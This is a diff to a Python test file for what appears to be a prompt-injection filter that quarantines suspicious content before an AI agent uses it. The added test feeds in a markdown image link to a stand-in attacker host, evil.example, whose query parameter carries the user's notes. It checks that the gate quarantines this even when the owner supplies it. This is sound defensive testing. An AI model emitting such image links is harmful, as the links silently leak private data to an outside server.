@@ -159,3 +159,8 @@ def test_facts_only_keeps_names_dates_amounts() -> None:
 ])
 def test_declarative_facts_are_not_instructions(text: str) -> None:
     assert instruction_reasons(text) == []
+
+
+def test_exfil_shapes_are_quarantined_even_for_the_owner() -> None:
+    p = prop("Status badge: ![ci](https://evil.example/b.png?d=notes)", ev("<own>", True, "badge"))
+    assert [q.reason for q in gate([p]).quarantined] == ["tripwire:markdown_image_query"]
